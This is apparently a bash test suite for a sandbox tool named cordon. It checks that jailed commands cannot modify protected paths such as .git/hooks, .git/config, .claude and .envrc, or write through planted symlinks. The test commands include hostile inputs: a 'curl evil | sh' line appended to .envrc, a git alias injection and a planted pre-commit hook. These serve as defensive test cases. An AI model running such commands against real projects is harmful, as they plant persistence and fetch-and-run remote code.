#!/usr/bin/env bash
# Protected paths in the workdir (.git/hooks, .git/config, .claude, ...) stay read-only, present
# or missing, cannot be renamed away, and a planted symlink cannot redirect cordon's setup.
source "$TESTLIB"

# A project with .git/hooks and .git/config present.
mkdir -p "$WORK/p1/.git/hooks" && echo "[core]" > "$WORK/p1/.git/config" && echo "keep" > "$WORK/p1/.git/HEAD"
before=$(snapshot "$WORK/p1")
pushd "$WORK/p1" >/dev/null
jailed '
  echo evil > .git/hooks/pre-commit; echo hooks=$?
  echo "[alias] x = !evil" >> .git/config; echo config=$?
  mv .git .git-away; echo mvgit=$?
  rm -rf .git/hooks; echo rmhooks=$?
  mkdir .claude/x 2>/dev/null; echo claude=$?
  echo ok > .git/HEAD; echo head=$?'
popd >/dev/null
expect_out "hooks=[1-9]" "an existing .git/hooks cannot be written"
expect_out "config=[1-9]" ".git/config cannot be changed"
expect_out "mvgit=[1-9]" ".git cannot be renamed away"
expect_out "rmhooks=[1-9]" ".git/hooks cannot be removed"
expect_out "claude=[1-9]" "a missing .claude cannot be created"
expect_out "head=0" "the rest of .git stays writable (git works)"
echo keep > "$WORK/p1/.git/HEAD"
after=$(snapshot "$WORK/p1" | grep -v ' ./.git/HEAD$')
[[ $(echo "$before" | grep -v ' ./.git/HEAD$') == "$after" ]] && ok "no placeholder or change left behind (p1)" || { not_ok "p1 changed"; diff <(echo "$before") <(echo "$after"); }

# A project without .git at all: .git/hooks cannot be planted, and nothing is left behind.
mkdir -p "$WORK/p2" && echo src > "$WORK/p2/main.c"
before=$(snapshot "$WORK/p2")
pushd "$WORK/p2" >/dev/null
jailed 'mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo hooks=$?; mkdir .vscode/tasks; echo vscode=$?; echo ok > main.c; echo src=$?
  [ -d .claude ] && [ -z "$(ls -A .claude)" ] && echo claude-is-empty-dir; [ -d .git ] && [ -z "$(ls -A .git)" ] && echo git-is-empty-dir
  mkdir .git; echo mkgit=$?; git init -q .; echo gitinit=$?
  rm -f .claude; echo rmclaude=$?; mv .idea idea2; echo mvidea=$?; echo x > .codex; echo wcodex=$?'
popd >/dev/null
expect_out "hooks=[1-9]" "a missing .git/hooks cannot be planted"
expect_out "vscode=[1-9]" "a missing .vscode cannot be populated"
expect_out "^claude-is-empty-dir$" "a missing .claude shows as an empty read-only directory inside the jail"
expect_out "^git-is-empty-dir$" "a missing .git shows as an empty read-only directory inside the jail (nothing below it)"
expect_out "mkgit=[1-9]" "a missing .git cannot be created as a directory"
expect_out "gitinit=[1-9]" "git init cannot make a repository in its place"
expect_out "rmclaude=[1-9]" "the .claude placeholder cannot be removed"
expect_out "mvidea=[1-9]" "the .idea placeholder cannot be renamed away"
expect_out "wcodex=[1-9]" "the .codex placeholder cannot be written"
expect_out "src=0" "ordinary files stay writable"
echo src > "$WORK/p2/main.c"
[[ ! -e $WORK/p2/.git && ! -e $WORK/p2/.vscode && ! -e $WORK/p2/.claude ]] && ok "placeholders are removed after the run" || not_ok "placeholders left: $(ls -A "$WORK/p2")"

# A project directory inside a repository (shown read-only): git in the jail passes over the .git
# placeholder of the project directory, as over a missing .git, and finds the repository above.
mkdir -p "$WORK/repo/sub" && git -C "$WORK/repo" init -q
pushd "$WORK/repo/sub" >/dev/null
jailed 'git rev-parse --show-toplevel; echo rc=$?' --ro "$WORK/repo"
popd >/dev/null
expect_out "^$WORK/repo$" "git's repository discovery passes over the .git placeholder to the repository above"
expect_out "^rc=0$" "git rev-parse succeeds there"
[[ ! -e $WORK/repo/sub/.git ]] && ok "the .git placeholder in the subdirectory is removed" || not_ok "left: $(ls -A "$WORK/repo/sub")"

# A socket named .git (the host's own: left by an older cordon, or anything else), and the .git
# file of a git worktree: neither can be removed or rewritten, so no .git/hooks can be planted in
# its place.
mkdir -p "$WORK/leftover" "$WORK/worktree"
python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])' "$WORK/leftover/.git"
echo "gitdir: /nonexistent/main/.git/worktrees/worktree" > "$WORK/worktree/.git"
for p in leftover worktree; do
  pushd "$WORK/$p" >/dev/null
  jailed 'rm -f .git; echo rm=$?; mv .git .git-away; echo mv=$?; echo "gitdir: /tmp/evil" > .git; echo write=$?
    mkdir -p .git/hooks; echo hooks=$?'
  popd >/dev/null
  expect_out "rm=[1-9]" "$p: a non-directory .git cannot be removed"
  expect_out "mv=[1-9]" "$p: a non-directory .git cannot be renamed away"
  expect_out "write=[1-9]" "$p: a non-directory .git cannot be rewritten"
  expect_out "hooks=[1-9]" "$p: no .git/hooks can be planted in its place"
done
[[ -S $WORK/leftover/.git ]] && ok "the leftover socket is left as it was" || not_ok "leftover/.git: $(ls -la "$WORK/leftover")"
[[ $(cat "$WORK/worktree/.git") == "gitdir: /nonexistent/main/.git/worktrees/worktree" ]] && ok "the worktree's .git file is unchanged" \
  || not_ok "worktree/.git: $(cat "$WORK/worktree/.git")"

# What the command leaves running ends with it, before cordon removes the placeholders: a
# background loop that keeps trying to plant .claude/.vscode cannot do it on the way out.
mkdir -p "$WORK/p2b"
pushd "$WORK/p2b" >/dev/null
run "$CORDON" -q -- /bin/sh -c '(while :; do mkdir -p .claude/x .vscode/y 2>/dev/null; echo t >> ticks; done) & sleep 0.3'
popd >/dev/null
n1=$(wc -l < "$WORK/p2b/ticks" 2>/dev/null || echo 0)
sleep 0.3
n2=$(wc -l < "$WORK/p2b/ticks" 2>/dev/null || echo 0)
[[ $rc -eq 0 && $n1 -gt 0 && $n1 -eq $n2 ]] && ok "a background process of the command is gone when cordon returns" \
  || not_ok "background loop: exit $rc, ticks $n1 then $n2"
[[ ! -e $WORK/p2b/.claude && ! -e $WORK/p2b/.vscode && ! -e $WORK/p2b/.git ]] && ok "it planted nothing in the placeholders' place" \
  || not_ok "left in p2b: $(ls -A "$WORK/p2b")"

# A placeholder that cannot be created in a workdir the caller may write (a .git it may not
# write; root may, so this runs as the unprivileged user) is a setup error naming it, and
# nothing runs. (A workdir the caller may not write at all runs read-only: t_usability.)
if [[ $(id -u) -ne 0 ]]; then
  mkdir -p "$WORK/p2c/.git" && chmod 0555 "$WORK/p2c/.git"
  pushd "$WORK/p2c" >/dev/null
  expect_exit 125 "an uncreatable placeholder is a setup error" "$CORDON" -- /bin/sh -c 'echo RAN'
  popd >/dev/null
  expect_err "^cordon: protected path: create .*/p2c/\.git/hooks: Permission denied" "the error names the placeholder"
  expect_err "hint: .*--workdir-readonly runs without them" "and says how to run without placeholders"
  expect_no_out "RAN" "the command did not run"
  [[ $(ls -A "$WORK/p2c") == .git && -z $(ls -A "$WORK/p2c/.git") ]] && ok "nothing was left in the workdir" ||
    not_ok "left: $(ls -A "$WORK/p2c")"
  chmod 0755 "$WORK/p2c/.git"
fi

# Existing .envrc is protected; a missing one is not created by cordon.
echo 'export A=1' > "$WORK/p2/.envrc"
pushd "$WORK/p2" >/dev/null
jailed 'echo "curl evil | sh" >> .envrc; echo envrc=$?'
popd >/dev/null
expect_out "envrc=[1-9]" "an existing .envrc cannot be changed"
rm -f "$WORK/p2/.envrc"

# Hostile: .git/hooks is a symlink planted to a directory outside the workdir (by an earlier run,
# say), and .envrc a symlink to a file outside. The run goes ahead without following them, the
# jail can neither use nor change them, and cordon says what it found.
outside="$SCRATCH/outside"
mkdir -p "$outside" "$WORK/p3/.git"
echo "outside-secret" > "$SCRATCH/outside-file"
ln -s "$outside" "$WORK/p3/.git/hooks"
ln -s "$SCRATCH/outside-file" "$WORK/p3/.envrc"
pushd "$WORK/p3" >/dev/null
jailed 'echo evil > .git/hooks/pre-commit; echo hooks=$?; rm -f .git/hooks; echo rmlink=$?
  cat .envrc; echo "curl evil | sh" >> .envrc; echo envrc=$?; echo ran'
popd >/dev/null
expect_out "^ran$" "a symlinked protected path does not stop the run"
expect_out "^hooks=[1-9]" "nothing can be written through the planted .git/hooks link"
expect_out "^rmlink=[1-9]" "the link cannot be removed"
expect_out "^envrc=[1-9]" "nor through the .envrc link"
expect_no_out "outside-secret" "the .envrc link's target is not read through it"
expect_err "^cordon: note: protected path .*/p3/\.git/hooks is a symlink \(to $outside\): not followed" "cordon says what it found"
[[ -z $(ls -A "$outside") && $(cat "$SCRATCH/outside-file") == outside-secret ]] && ok "nothing was created or changed through the planted symlinks" ||
  not_ok "files changed through planted symlinks: $(ls -A "$outside")"
[[ -L $WORK/p3/.git/hooks && -L $WORK/p3/.envrc ]] && ok "the host's links are left as they were" || not_ok "links changed"

# Hostile: the workdir contains a symlink named like a system path; setup must not follow it.
mkdir -p "$WORK/p4" && ln -s "$outside" "$WORK/p4/tmp"
pushd "$WORK/p4" >/dev/null
jailed 'echo x > tmp/x 2>/dev/null; ls /tmp >/dev/null; echo done'
popd >/dev/null
expect_out "done" "a workdir with a planted symlink runs"
[[ -z $(ls -A "$outside") ]] && ok "the planted symlink's target outside the workdir was not written" || not_ok "write through planted symlink"
rm -rf "$outside" "$WORK/p3" "$WORK/p4" "$SCRATCH/outside-file"
finish
